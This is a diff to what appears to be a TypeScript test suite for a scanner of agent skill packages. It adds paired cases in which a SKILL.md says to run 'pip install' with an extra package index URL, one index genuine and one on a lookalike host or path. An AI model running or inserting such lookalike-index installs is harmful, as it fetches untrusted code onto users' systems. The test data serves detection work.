@@ -20,6 +20,9 @@ const merged = (way: string): Files => ({
   'scripts/a.sh': `HERE="$(cd "$(dirname "$0")" && pwd)"\n${way}\n"$HERE/mask.sh" notes.txt\n`,
   'scripts/mask.sh': 'sed s/a/b/ "$1"\n',
 });
+const index = (url: string): Files => ({
+  'SKILL.md': skill('serve', `\`\`\`bash\npip install fast-serve --extra-index-url ${url}\n\`\`\``),
+});
 
 /** What is run and lies here, was read, or is no program, each beside the attack that it must not be mistaken for. */
 const TWINS: readonly (readonly [string, Files, Files])[] = [
@@ -62,6 +65,16 @@ const TWINS: readonly (readonly [string, Files, Files])[] = [
     'a way that ends there, and a condition that is met either way',
     merged('if [ -n "$PROMOTED" ]; then\n  git checkout stable-line\n  exit\nfi'),
     merged('if ! git checkout stable-line; then\n  exit\nfi'),
+  ],
+  [
+    'wheels of a repository that is named for its package, and of one that is for all',
+    index('https://openlab.github.io/fastserve-index/whl/cu118/'),
+    index('https://openlab.github.io/wheels/whl/cu118/'),
+  ],
+  [
+    'wheels on the pages of a code host, and of somebody with that path',
+    index('https://openlab.github.io/fast-serve/whl'),
+    index('https://openlab-pages.io/fast-serve/whl'),
   ],
 ];
 
